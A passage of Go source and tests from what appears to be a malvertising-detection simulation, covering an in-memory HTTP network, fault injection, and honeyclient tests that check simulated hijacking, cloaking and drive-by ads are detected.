	u.mu.Lock()
	defer u.mu.Unlock()
	u.hosts[strings.ToLower(host)] = h
}

// HandleFunc registers a handler function for a host.
func (u *Universe) HandleFunc(host string, f func(http.ResponseWriter, *http.Request)) {
	u.Handle(host, http.HandlerFunc(f))
}

// SetFallback installs a handler for hosts with no registration, replacing
// the default NXDOMAIN behaviour. The simulation uses it to model wildcard
// parking pages.
func (u *Universe) SetFallback(h http.Handler) {
	u.mu.Lock()
	defer u.mu.Unlock()
	u.fallback = h
}

// Lookup returns the handler for host, or nil when the host does not
// resolve.
func (u *Universe) Lookup(host string) http.Handler {
	host = strings.ToLower(stripPort(host))
	u.mu.RLock()
	defer u.mu.RUnlock()
	if h, ok := u.hosts[host]; ok {
		return h
	}
	return u.fallback
}

// Hosts returns all registered host names (unordered).
func (u *Universe) Hosts() []string {
	u.mu.RLock()
	defer u.mu.RUnlock()
	out := make([]string, 0, len(u.hosts))
	for h := range u.hosts {
		out = append(out, h)
	}
	return out
}

// ServeHTTP dispatches by Host header.
func (u *Universe) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h := u.Lookup(r.Host)
	if h == nil {
		http.Error(w, "memnet: no such host: "+r.Host, http.StatusBadGateway)
		return
	}
	h.ServeHTTP(w, r)
}

// NXDomainError is returned by the in-memory transport for unregistered
// hosts. The honeyclient's cloaking heuristics (redirects to NX domains)
// depend on being able to distinguish this from an HTTP error.
type NXDomainError struct{ Host string }

func (e *NXDomainError) Error() string {
	return fmt.Sprintf("memnet: lookup %s: no such host", e.Host)
}

// Transport is an http.RoundTripper that serves requests directly from a
// Universe without sockets.
type Transport struct {
	U *Universe
	// Tel, when non-nil, records a memnet.dispatch span and latency sample
	// per request (parented to the span on the request context). Telemetry
	// never changes what the transport returns.
	Tel *telemetry.Set
}

// RoundTrip executes the request against the universe. It honors the
// request context: a cancelled or expired context fails the request before
// the handler runs, and again after (a handler cannot be interrupted
// mid-flight, but its response is discarded — matching a socket transport
// whose caller stopped listening).
func (t *Transport) RoundTrip(req *http.Request) (*http.Response, error) {
	if t.Tel != nil {
		// The URL key only surfaces in trace output, so it is rendered
		// (one allocation) only when a tracer is actually attached.
		key := ""
		if t.Tel.Tracer != nil {
			key = req.URL.String()
		}
		sp := t.Tel.StartStageTimer(req.Context(), telemetry.StageMemnet, key)
		defer sp.End()
	}
	if err := req.Context().Err(); err != nil {
		return nil, err
	}
	host := req.URL.Hostname()
	if host == "" {
		host = stripPort(req.Host)
	}
	h := t.U.Lookup(host)
	if h == nil {
		return nil, &NXDomainError{Host: host}
	}

	// Hand the handler a server-side view of the request. A shallow copy is
	// enough — universe handlers treat the request as read-only (they route
	// on URL fields and never mutate headers), so sharing the URL and header
	// map skips the deep Header.Clone a real server would pay for.
	inner := *req
	inner.Host = req.URL.Host
	inner.RequestURI = req.URL.RequestURI()
	if inner.Body == nil {
		inner.Body = http.NoBody
	}

	rec := newRecorder()
	h.ServeHTTP(rec, &inner)
	if err := req.Context().Err(); err != nil {
		return nil, err
	}
	return rec.response(req), nil
}

// recorder is a minimal in-memory http.ResponseWriter. The reader and
// response it hands out are embedded so one recorder allocation covers the
// whole request round trip; they share the recorder's lifetime because the
// response body aliases the recorder's buffer anyway.
type recorder struct {
	status int
	header http.Header
	body   bytes.Buffer
	wrote  bool

	reader bodyReader
	resp   http.Response
}

// bodyReader is a bytes.Reader that satisfies io.ReadCloser without the
// io.NopCloser wrapper allocation.
type bodyReader struct{ bytes.Reader }

func (*bodyReader) Close() error { return nil }

func newRecorder() *recorder {
	return &recorder{header: make(http.Header, 2)}
}

func (r *recorder) Header() http.Header { return r.header }

func (r *recorder) WriteHeader(status int) {
	if r.wrote {
		return
	}
	r.status = status
	r.wrote = true
}

func (r *recorder) Write(p []byte) (int, error) {
	if !r.wrote {
		r.WriteHeader(http.StatusOK)
	}
	return r.body.Write(p)
}

func (r *recorder) response(req *http.Request) *http.Response {
	if !r.wrote {
		r.status = http.StatusOK
	}
	r.reader.Reset(r.body.Bytes())
	r.resp = http.Response{
		Status:        statusLine(r.status),
		StatusCode:    r.status,
		Proto:         "HTTP/1.1",
		ProtoMajor:    1,
		ProtoMinor:    1,
		Header:        r.header,
		Body:          &r.reader,
		ContentLength: int64(r.body.Len()),
		Request:       req,
	}
	return &r.resp
}

// statusLine renders "code text" with the hot codes precomposed.
func statusLine(code int) string {
	switch code {
	case http.StatusOK:
		return "200 OK"
	case http.StatusFound:
		return "302 Found"
	case http.StatusBadRequest:
		return "400 Bad Request"
	case http.StatusNotFound:
		return "404 Not Found"
	}
	return fmt.Sprintf("%d %s", code, http.StatusText(code))
}

// Client returns an *http.Client backed by the in-memory transport that
// does not follow redirects automatically: the emulated browser implements
// redirect-following itself so every hop is observable, exactly like the
// paper's full traffic capture.
func Client(u *Universe) *http.Client {
	return &http.Client{
		Transport: &Transport{U: u},
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
}

// Server runs a Universe on a real TCP loopback listener.
type Server struct {
	U        *Universe
	listener net.Listener
	server   *http.Server
}

// StartServer listens on 127.0.0.1 on an ephemeral port and serves the
// universe over real HTTP.
func StartServer(u *Universe) (*Server, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &Server{
		U:        u,
		listener: ln,
		server:   &http.Server{Handler: u},
	}
	go s.server.Serve(ln) //nolint:errcheck // Serve returns on Close
	return s, nil
}

// Addr returns the listener's address, e.g. "127.0.0.1:40123".
func (s *Server) Addr() string { return s.listener.Addr().String() }

// shutdownGrace bounds how long Close waits for in-flight requests.
const shutdownGrace = 3 * time.Second

// Close shuts the server down gracefully: it stops accepting connections,
// closes idle ones, and waits (briefly) for in-flight requests to finish
// instead of resetting them mid-response. Requests still running after the
// grace period are cut off.
func (s *Server) Close() error {
	ctx, cancel := context.WithTimeout(context.Background(), shutdownGrace)
	defer cancel()
	if err := s.server.Shutdown(ctx); err != nil {
		// Stragglers exceeded the grace period: force-close them.
		return s.server.Close()
	}
	return nil
}

// TCPClient returns an *http.Client whose transport dials the server's
// loopback address for every host name, so URLs of simulated domains
// resolve to the real listener. Redirects are not followed automatically,
// matching Client.
func (s *Server) TCPClient() *http.Client {
	addr := s.Addr()
	dialer := &net.Dialer{}
	transport := &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return dialer.DialContext(ctx, network, addr)
		},
		// Simulated hosts are plentiful; keep connections bounded.
		MaxIdleConns:        32,
		MaxIdleConnsPerHost: 4,
	}
	return &http.Client{
		Transport: transport,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
}

func stripPort(host string) string {
	if i := strings.LastIndexByte(host, ':'); i >= 0 && !strings.Contains(host[i:], "]") {
		return host[:i]
	}
	return host
}
