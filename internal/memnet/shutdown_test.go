package memnet

import (
	"io"
	"net/http"
	"testing"
	"time"

	"madave/internal/fuzzutil/leakcheck"
)

type getResult struct {
	status int
	body   string
	err    error
}

func asyncGet(client *http.Client, url string) <-chan getResult {
	ch := make(chan getResult, 1)
	go func() {
		resp, err := client.Get(url)
		if err != nil {
			ch <- getResult{err: err}
			return
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		ch <- getResult{status: resp.StatusCode, body: string(b)}
	}()
	return ch
}

// TestServerCloseWaitsForInFlight pins the graceful half of Server.Close: a
// request already inside a handler must complete with its full response
// before Close returns, and only then are new connections refused.
func TestServerCloseWaitsForInFlight(t *testing.T) {
	snap := leakcheck.Before()

	u := NewUniverse()
	entered := make(chan struct{})
	release := make(chan struct{})
	u.HandleFunc("slow.example.com", func(w http.ResponseWriter, r *http.Request) {
		close(entered)
		<-release
		io.WriteString(w, "finished cleanly")
	})

	srv, err := StartServer(u)
	if err != nil {
		t.Fatal(err)
	}
	client := srv.TCPClient()

	resCh := asyncGet(client, "http://slow.example.com/")
	<-entered

	closed := make(chan error, 1)
	go func() { closed <- srv.Close() }()

	// Close must block on the in-flight request, not reset it.
	select {
	case err := <-closed:
		t.Fatalf("Close returned (%v) while a request was still in its handler", err)
	case <-time.After(50 * time.Millisecond):
	}

	close(release)
	if err := <-closed; err != nil {
		t.Fatalf("Close: %v", err)
	}
	res := <-resCh
	if res.err != nil || res.status != http.StatusOK || res.body != "finished cleanly" {
		t.Fatalf("in-flight request was cut off: %+v", res)
	}

	// The listener is gone: new requests fail at the transport.
	if res := <-asyncGet(client, "http://slow.example.com/again"); res.err == nil {
		t.Fatalf("request after Close succeeded with %d", res.status)
	}

	client.CloseIdleConnections()
	snap.Check(t)
}

// TestServerCloseForceCutsStragglers pins the other half: a handler that
// outlives the shutdown grace period is cut off instead of wedging Close
// forever. Skipped in -short mode because it must actually sit out the
// grace period.
func TestServerCloseForceCutsStragglers(t *testing.T) {
	if testing.Short() {
		t.Skip("grace-period test skipped in -short mode")
	}
	snap := leakcheck.Before()

	u := NewUniverse()
	entered := make(chan struct{})
	release := make(chan struct{})
	u.HandleFunc("wedged.example.com", func(w http.ResponseWriter, r *http.Request) {
		close(entered)
		<-release
	})

	srv, err := StartServer(u)
	if err != nil {
		t.Fatal(err)
	}
	client := srv.TCPClient()

	resCh := asyncGet(client, "http://wedged.example.com/")
	<-entered

	start := time.Now()
	closeErr := srv.Close()
	elapsed := time.Since(start)
	if elapsed < shutdownGrace {
		t.Fatalf("Close returned after %v, before the %v grace period", elapsed, shutdownGrace)
	}
	if elapsed > shutdownGrace+2*time.Second {
		t.Fatalf("Close wedged for %v on a stuck handler", elapsed)
	}
	_ = closeErr // force-close may or may not surface an error; returning is the contract

	// The client sees its connection die rather than hanging forever.
	select {
	case res := <-resCh:
		if res.err == nil {
			t.Fatalf("cut-off request reported success: %+v", res)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("client request still hanging after force-close")
	}

	close(release) // let the handler goroutine retire
	client.CloseIdleConnections()
	snap.Check(t)
}
