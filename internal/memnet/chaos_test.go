package memnet

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"
)

// chaosClient builds a client over the test universe with a chaos layer.
func chaosClient(u *Universe, seed uint64, p FaultProfile) (*http.Client, *Chaos) {
	ch := NewChaos(&Transport{U: u}, seed, p)
	return &http.Client{
		Transport: ch,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}, ch
}

// outcomeOf performs one GET and compresses the result into a comparable
// string: error class, or status plus body-read result.
func outcomeOf(ctx context.Context, client *http.Client, url string) string {
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	resp, err := client.Do(req)
	if err != nil {
		var nx *NXDomainError
		var rst *ResetError
		switch {
		case errors.As(err, &nx):
			return "nxdomain"
		case errors.As(err, &rst):
			return "reset"
		default:
			return "err:" + err.Error()
		}
	}
	defer resp.Body.Close()
	body, rerr := io.ReadAll(resp.Body)
	return fmt.Sprintf("status=%d body=%d readerr=%v", resp.StatusCode, len(body), rerr)
}

func TestChaosDeterministicPerSeed(t *testing.T) {
	u := newTestUniverse()
	p := UniformProfile(0.6)
	p.StallRate = 0 // stalls need deadlines; exercised separately

	run := func() []string {
		client, _ := chaosClient(u, 42, p)
		var out []string
		for i := 0; i < 200; i++ {
			out = append(out, outcomeOf(context.Background(), client,
				fmt.Sprintf("http://www.pub.example.com/p%d", i)))
		}
		return out
	}
	a, b := run(), run()
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("request %d outcomes differ: %q vs %q", i, a[i], b[i])
		}
	}
	// With a 60% fault rate over 200 requests, each kind must have fired.
	client, ch := chaosClient(u, 42, p)
	for i := 0; i < 200; i++ {
		outcomeOf(context.Background(), client, fmt.Sprintf("http://www.pub.example.com/p%d", i))
	}
	counts := ch.Counts()
	if counts.NXDomain == 0 || counts.Reset == 0 || counts.HTTP5xx == 0 || counts.Truncated == 0 {
		t.Fatalf("fault mix incomplete: %+v", counts)
	}
}

func TestChaosAttemptChangesOutcome(t *testing.T) {
	u := newTestUniverse()
	// Find a URL whose first attempt faults but whose second succeeds —
	// the NXDOMAIN-flap shape that makes retries worthwhile.
	client, _ := chaosClient(u, 7, FaultProfile{NXRate: 0.5})
	flapped := false
	for i := 0; i < 100 && !flapped; i++ {
		url := fmt.Sprintf("http://www.pub.example.com/flap%d", i)
		first := outcomeOf(WithAttempt(context.Background(), 1), client, url)
		second := outcomeOf(WithAttempt(context.Background(), 2), client, url)
		if first == "nxdomain" && strings.HasPrefix(second, "status=200") {
			flapped = true
		}
		// Same attempt must always reproduce.
		if again := outcomeOf(WithAttempt(context.Background(), 1), client, url); again != first {
			t.Fatalf("attempt 1 of %s not reproducible: %q vs %q", url, first, again)
		}
	}
	if !flapped {
		t.Fatal("no URL flapped NX->OK across attempts at 50% NX rate")
	}
}

func TestChaosTruncatedBody(t *testing.T) {
	u := newTestUniverse()
	client, _ := chaosClient(u, 3, FaultProfile{TruncateRate: 1})
	resp, err := client.Get("http://www.pub.example.com/long")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, rerr := io.ReadAll(resp.Body)
	if !errors.Is(rerr, io.ErrUnexpectedEOF) {
		t.Fatalf("read err = %v, want unexpected EOF", rerr)
	}
	if int64(len(body)) >= resp.ContentLength {
		t.Fatalf("body %d bytes not truncated below advertised %d", len(body), resp.ContentLength)
	}
}

func TestChaosStallUnblocksAtDeadline(t *testing.T) {
	u := newTestUniverse()
	client, _ := chaosClient(u, 5, FaultProfile{StallRate: 1})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Millisecond)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, "http://www.pub.example.com/stall", nil)
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	start := time.Now()
	_, rerr := io.ReadAll(resp.Body)
	if !errors.Is(rerr, context.DeadlineExceeded) {
		t.Fatalf("read err = %v, want deadline exceeded", rerr)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatal("stall did not unblock at the deadline")
	}
}

func TestChaosPerHostProfile(t *testing.T) {
	u := newTestUniverse()
	client, ch := chaosClient(u, 9, FaultProfile{})
	ch.SetHostProfile("error.example.com", FaultProfile{ResetRate: 1})

	// The overridden host always resets; others are untouched.
	for i := 0; i < 10; i++ {
		if got := outcomeOf(context.Background(), client, fmt.Sprintf("http://error.example.com/x%d", i)); got != "reset" {
			t.Fatalf("override host: %q", got)
		}
	}
	if got := outcomeOf(context.Background(), client, "http://www.pub.example.com/ok"); !strings.HasPrefix(got, "status=200") {
		t.Fatalf("clean host: %q", got)
	}
}

func TestTransportHonorsContext(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, "http://www.pub.example.com/", nil)
	if _, err := client.Do(req); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}

	// An already-expired deadline is equally fatal.
	dctx, dcancel := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer dcancel()
	req2, _ := http.NewRequestWithContext(dctx, http.MethodGet, "http://www.pub.example.com/", nil)
	if _, err := client.Do(req2); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want context.DeadlineExceeded", err)
	}
}

func TestServerGracefulShutdown(t *testing.T) {
	u := NewUniverse()
	release := make(chan struct{})
	started := make(chan struct{}, 1)
	u.HandleFunc("slow.example.com", func(w http.ResponseWriter, r *http.Request) {
		started <- struct{}{}
		<-release
		io.WriteString(w, "done")
	})
	srv, err := StartServer(u)
	if err != nil {
		t.Fatal(err)
	}
	client := srv.TCPClient()

	type result struct {
		body string
		err  error
	}
	got := make(chan result, 1)
	go func() {
		resp, err := client.Get("http://slow.example.com/")
		if err != nil {
			got <- result{err: err}
			return
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		got <- result{body: string(b)}
	}()
	<-started
	// Let the in-flight request finish while Close waits.
	go func() {
		time.Sleep(50 * time.Millisecond)
		close(release)
	}()
	if err := srv.Close(); err != nil {
		t.Fatalf("graceful close: %v", err)
	}
	r := <-got
	if r.err != nil || r.body != "done" {
		t.Fatalf("in-flight request aborted by shutdown: body=%q err=%v", r.body, r.err)
	}
}
