package honeyclient

import "testing"

// BenchmarkCacheKey pins the append-built per-ad cache key at one
// allocation (the final string).
func BenchmarkCacheKey(b *testing.B) {
	h := &Honeyclient{Seed: 0xdeadbeef}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if k := h.cacheKey("ad", 42, "crv-00017|imp-deadbeef"); len(k) == 0 {
			b.Fatal("empty key")
		}
	}
}
