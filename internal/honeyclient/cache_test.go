package honeyclient

import (
	"context"
	"net/http"
	"reflect"
	"sync"
	"testing"
	"time"

	"madave/internal/adnet"
	"madave/internal/memnet"
)

// TestCachedAnalyzeMatchesUncached asserts the cached entrypoint returns a
// report deep-equal to a fresh analysis, and that the second call is a hit.
func TestCachedAnalyzeMatchesUncached(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	url := frameURL(srv, pub, imp)

	plain := New(u, 1)
	want := plain.Analyze(url)

	h := New(u, 1)
	h.EnableCache(0)
	first := h.AnalyzeAdContext(context.Background(), url, 0)
	second := h.AnalyzeAdContext(context.Background(), url, 0)
	if !reflect.DeepEqual(first, want) {
		t.Fatalf("cached analysis diverged from plain:\n got %+v\nwant %+v", first, want)
	}
	if second != first {
		t.Fatal("second call did not return the cached report pointer")
	}
	st, ok := h.CacheStats()
	if !ok || st.Hits != 1 || st.Misses != 1 {
		t.Fatalf("cache stats %+v", st)
	}
}

// TestCacheKeySeparatesDays pins that the same frame URL analyzed on
// different crawl days occupies distinct cache entries (blacklist lag and
// serving rotation make day part of the key's meaning).
func TestCacheKeySeparatesDays(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	url := frameURL(srv, pub, imp)

	h := New(u, 1)
	h.EnableCache(0)
	h.AnalyzeAdContext(context.Background(), url, 0)
	h.AnalyzeAdContext(context.Background(), url, 1)
	if st, _ := h.CacheStats(); st.Misses != 2 || st.Hits != 0 {
		t.Fatalf("day should partition the key space: %+v", st)
	}
}

// TestCachedAnalyzeHTML covers the snapshot path: identical HTML+base is a
// hit, different base URL is a distinct entry.
func TestCachedAnalyzeHTML(t *testing.T) {
	u, _ := fixture(t)
	h := New(u, 1)
	h.EnableCache(0)
	const html = `<html><body>static snapshot</body></html>`
	a := h.AnalyzeHTMLAdContext(context.Background(), html, "http://snap.test/a", 0)
	b := h.AnalyzeHTMLAdContext(context.Background(), html, "http://snap.test/a", 0)
	if a != b {
		t.Fatal("identical snapshot re-analyzed")
	}
	h.AnalyzeHTMLAdContext(context.Background(), html, "http://snap.test/other", 0)
	if st, _ := h.CacheStats(); st.Misses != 2 || st.Hits != 1 {
		t.Fatalf("stats %+v", st)
	}
}

// TestTruncatedAnalysisNotCached asserts the reproducibility gate: a report
// cut short by the caller's deadline must never be stored, or a later
// unconstrained call would inherit the truncated evidence.
func TestTruncatedAnalysisNotCached(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	url := frameURL(srv, pub, imp)

	h := New(u, 1)
	h.EnableCache(0)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	h.AnalyzeAdContext(ctx, url, 0)
	if st, _ := h.CacheStats(); st.Stores != 0 {
		t.Fatalf("truncated report was stored: %+v", st)
	}
	// The unconstrained retry computes (and stores) the full report.
	rep := h.AnalyzeAdContext(context.Background(), url, 0)
	if rep.Degraded {
		t.Fatal("full reanalysis still degraded")
	}
	if st, _ := h.CacheStats(); st.Stores != 1 {
		t.Fatalf("full report not stored: %+v", st)
	}
}

// TestCachedAnalyzeUnderChaos proves memoization stays sound with fault
// injection: chaos faults are a pure function of (seed, URL, attempt), so a
// cached chaotic report equals a recomputed one.
func TestCachedAnalyzeUnderChaos(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	url := frameURL(srv, pub, imp)
	prof := memnet.UniformProfile(0.3)

	mk := func() *Honeyclient {
		h := New(u, 1)
		h.Transport = func() http.RoundTripper {
			return memnet.NewChaos(&memnet.Transport{U: u}, 1, prof)
		}
		h.Timeout = 5 * time.Second
		return h
	}
	plain := mk()
	want := plain.Analyze(url)

	h := mk()
	h.EnableCache(0)
	for i := 0; i < 3; i++ {
		if got := h.AnalyzeAdContext(context.Background(), url, 0); !reflect.DeepEqual(got, want) {
			t.Fatalf("iteration %d: chaotic cached report diverged:\n got %+v\nwant %+v", i, got, want)
		}
	}
}

// TestConcurrentCachedAnalyze storms one honeyclient from many goroutines
// under -race: every returned report must equal the single-flight leader's.
func TestConcurrentCachedAnalyze(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	urls := []string{
		frameURL(srv, pub, imp),
	}
	h := New(u, 1)
	h.EnableCache(0)

	const workers = 8
	reports := make([]*Report, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			reports[w] = h.AnalyzeAdContext(context.Background(), urls[0], 0)
		}(w)
	}
	wg.Wait()
	for w := 1; w < workers; w++ {
		if !reflect.DeepEqual(reports[w], reports[0]) {
			t.Fatalf("worker %d diverged", w)
		}
	}
}
