package honeyclient

import (
	"fmt"
	"net/http"
	"testing"
	"time"

	"madave/internal/adnet"
	"madave/internal/memnet"
	"madave/internal/resilient"
)

// TestAnalyzeDegradedUnderStall stalls every fetch: the analysis must come
// back bounded by Timeout, marked Degraded, instead of hanging.
func TestAnalyzeDegradedUnderStall(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)

	h := New(u, 1)
	h.Timeout = 60 * time.Millisecond
	h.Retry = resilient.Policy{MaxAttempts: 2, BaseDelay: time.Microsecond, MaxDelay: time.Microsecond, AttemptTimeout: 20 * time.Millisecond}
	h.Transport = func() http.RoundTripper {
		return memnet.NewChaos(&memnet.Transport{U: u}, 1, memnet.FaultProfile{StallRate: 1})
	}

	start := time.Now()
	rep := h.Analyze(frameURL(srv, pub, imp))
	if time.Since(start) > 10*time.Second {
		t.Fatal("analysis was not bounded")
	}
	if rep == nil {
		t.Fatal("no report")
	}
	if !rep.Degraded || len(rep.RenderErrors) == 0 {
		t.Fatalf("stalled analysis should be degraded: %+v", rep)
	}
}

// TestAnalyzeDeterministicUnderChaos: same seed, same ad, same faults —
// the report (evidence, features, verdict inputs) must be identical.
func TestAnalyzeDeterministicUnderChaos(t *testing.T) {
	u, srv := fixture(t)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	url := frameURL(srv, pub, imp)

	run := func() string {
		h := New(u, 3)
		h.Retry = resilient.Policy{MaxAttempts: 3, BaseDelay: time.Microsecond, MaxDelay: time.Microsecond, AttemptTimeout: 250 * time.Millisecond}
		h.Transport = func() http.RoundTripper {
			return memnet.NewChaos(&memnet.Transport{U: u}, 3, memnet.UniformProfile(0.4))
		}
		return fmt.Sprintf("%+v", *h.Analyze(url))
	}
	a, b := run(), run()
	if a != b {
		t.Fatalf("reports diverged under same-seed chaos:\n%s\n%s", a, b)
	}
}
