package honeyclient

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"

	"madave/internal/adnet"
	"madave/internal/adserver"
	"madave/internal/memnet"
	"madave/internal/webgen"
)

var (
	onceFix sync.Once
	fixU    *memnet.Universe
	fixSrv  *adserver.Server
)

func fixture(t *testing.T) (*memnet.Universe, *adserver.Server) {
	t.Helper()
	onceFix.Do(func() {
		web, err := webgen.Generate(webgen.DefaultConfig())
		if err != nil {
			panic(err)
		}
		eco, err := adnet.Generate(adnet.DefaultConfig())
		if err != nil {
			panic(err)
		}
		fixSrv = adserver.New(eco, web, 5)
		fixU = memnet.NewUniverse()
		fixSrv.Install(fixU)
	})
	return fixU, fixSrv
}

// findImpression hunts for an impression served a campaign of the wanted
// kind from some publisher.
func findImpression(t *testing.T, srv *adserver.Server, kind adnet.Kind) (pub string, imp string, c *adnet.Campaign) {
	t.Helper()
	for _, site := range srv.Web.Sites[:3000] {
		if site.AdSlots == 0 {
			continue
		}
		for r := 0; r < 40; r++ {
			cand := impressionFor(srv, site.Host, r)
			d, ok := srv.Decide(site.Host, cand)
			if ok && d.Campaign.Kind == kind {
				return site.Host, cand, d.Campaign
			}
		}
	}
	t.Fatalf("no impression of kind %s found", kind)
	return "", "", nil
}

// impressionFor mirrors the adserver's deterministic impression IDs.
func impressionFor(srv *adserver.Server, host string, r int) string {
	// The publisher handler derives impressions as impressionID(seed, host,
	// slot, nonce); we reproduce that by fetching would be slower, so use
	// slot 0 with distinct nonces via the exported page flow instead.
	return adserver.ImpressionID(srv.Seed, host, 0, fmt.Sprintf("hc%d", r))
}

func frameURL(srv *adserver.Server, pub, imp string) string {
	site := srv.Web.ByHost(pub)
	n := srv.Eco.Networks[site.PrimaryNetwork]
	return fmt.Sprintf("http://%s/serve?pub=%s&slot=0&imp=%s&hop=0", n.Domain, pub, imp)
}

func TestBenignAdClean(t *testing.T) {
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, _ := findImpression(t, srv, adnet.KindBenign)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if rep.Hijack || rep.NXRedirect || rep.BenignRedirect || rep.ModelHit {
		t.Fatalf("benign ad flagged: %+v", rep)
	}
	if len(rep.Downloads) != 0 {
		t.Fatalf("benign ad downloaded: %+v", rep.Downloads)
	}
	if len(rep.Hosts) == 0 {
		t.Fatal("no hosts recorded")
	}
}

func TestHijackDetected(t *testing.T) {
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, _ := findImpression(t, srv, adnet.KindLinkHijack)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if !rep.Hijack {
		t.Fatalf("hijack missed: %+v", rep)
	}
}

func TestCloakingHeuristics(t *testing.T) {
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, c := findImpression(t, srv, adnet.KindCloaking)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if !rep.NXRedirect && !rep.BenignRedirect {
		t.Fatalf("cloaking (campaign %s) missed: %+v", c.ID, rep)
	}
}

func TestDriveByPayloadCaptured(t *testing.T) {
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, c := findImpression(t, srv, adnet.KindDriveBy)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if len(rep.Downloads) == 0 {
		t.Fatalf("drive-by payload (campaign %s) not captured: %+v", c.ID, rep)
	}
	if !strings.HasPrefix(string(rep.Downloads[0].Body), "MZ") {
		t.Fatal("captured payload is not the executable")
	}
}

func TestDeceptivePayloadCaptured(t *testing.T) {
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, _ := findImpression(t, srv, adnet.KindDeceptive)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if len(rep.Downloads) == 0 {
		t.Fatalf("deceptive payload not captured: %+v", rep)
	}
}

func TestFlashPayloadCaptured(t *testing.T) {
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, _ := findImpression(t, srv, adnet.KindMaliciousFlash)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if len(rep.Downloads) == 0 {
		t.Fatalf("flash payload not captured: %+v", rep)
	}
	if rep.Downloads[0].ContentType != "application/x-shockwave-flash" {
		t.Fatalf("download type = %q", rep.Downloads[0].ContentType)
	}
}

func TestModelDetection(t *testing.T) {
	// Model-only campaigns serve ~5e-6 of impressions (3 of 6,601 paper
	// incidents), so instead of brute-forcing the auction the test renders
	// the campaign's creative directly, as the oracle's AnalyzeHTML path
	// would for a corpus snapshot.
	u, srv := fixture(t)
	h := New(u, 1)
	var c *adnet.Campaign
	for _, cand := range srv.Eco.Campaigns {
		if cand.Kind == adnet.KindModelOnly {
			c = cand
			break
		}
	}
	if c == nil {
		t.Fatal("no model-only campaign generated")
	}
	html := adserver.CreativeHTML(c, "feedfacefeedface", 1)
	rep := h.AnalyzeHTML(html, "http://"+c.CreativeHost+"/creative")
	if !rep.ModelHit {
		t.Fatalf("model-only campaign %s not flagged: features=%+v score=%f",
			c.ID, rep.Features, rep.Features.Score())
	}
	// It must not trip the other detectors (that would shift Table 1).
	if rep.Hijack || len(rep.Downloads) != 0 {
		t.Fatalf("model-only tripping other detectors: %+v", rep)
	}
}

func TestBlacklistedKindLooksCleanToHoneyclient(t *testing.T) {
	// Blacklisted campaigns behave like benign ads; only the blacklist
	// component of the oracle catches them.
	u, srv := fixture(t)
	h := New(u, 1)
	pub, imp, _ := findImpression(t, srv, adnet.KindBlacklisted)
	rep := h.Analyze(frameURL(srv, pub, imp))
	if rep.Hijack || rep.ModelHit || len(rep.Downloads) != 0 {
		t.Fatalf("blacklisted-kind ad tripped behaviour detectors: %+v", rep)
	}
}

func TestFeaturesScore(t *testing.T) {
	if (Features{}).Score() != 0 {
		t.Fatal("empty features should score 0")
	}
	f := Features{ObfuscationLayers: 1, ThirdPartyBeaconDomains: 3}
	if f.Score() < DefaultModelThreshold {
		t.Fatalf("model-only pattern scores %f, below threshold", f.Score())
	}
	lone := Features{ObfuscationLayers: 2}
	if lone.Score() >= DefaultModelThreshold {
		t.Fatal("obfuscation alone must not cross the threshold")
	}
	beaconsOnly := Features{ThirdPartyBeaconDomains: 3}
	if beaconsOnly.Score() >= DefaultModelThreshold {
		t.Fatal("beacons alone must not cross the threshold")
	}
}

func TestAnalyzeHTMLSnapshot(t *testing.T) {
